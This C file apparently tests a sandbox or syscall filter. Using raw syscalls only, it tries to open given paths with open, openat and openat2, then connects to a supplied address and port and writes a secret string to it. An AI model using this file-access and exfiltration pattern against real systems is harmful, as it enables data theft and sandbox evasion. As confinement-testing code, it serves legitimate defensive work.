// Reads and sends with raw system calls only: raw ADDRESS PORT SECRET PATH...
#include <linux/openat2.h>

#include "attack.h"

int main(int argc, char** argv) {
  if (argc < 5) return 2;
  for (int i = 4; i < argc; ++i) {
    DumpFd("open", (int)syscall(SYS_open, argv[i], O_RDONLY, 0));
    DumpFd("openat", (int)syscall(SYS_openat, AT_FDCWD, argv[i], O_RDONLY, 0));
    DumpFd("openat rdwr", (int)syscall(SYS_openat, AT_FDCWD, argv[i], O_RDWR, 0));
    struct open_how how = {.flags = O_RDONLY};
    DumpFd("openat2", (int)syscall(SYS_openat2, AT_FDCWD, argv[i], &how, sizeof how));
  }
  struct sockaddr_in to = Ipv4(argv[1], atoi(argv[2]));
  int fd = (int)syscall(SYS_socket, AF_INET, SOCK_STREAM, 0);
  long result = syscall(SYS_connect, fd, &to, sizeof to);
  Result("connect", result);
  if (result == 0) syscall(SYS_write, fd, argv[3], strlen(argv[3]));
  Done();
  return 0;
}
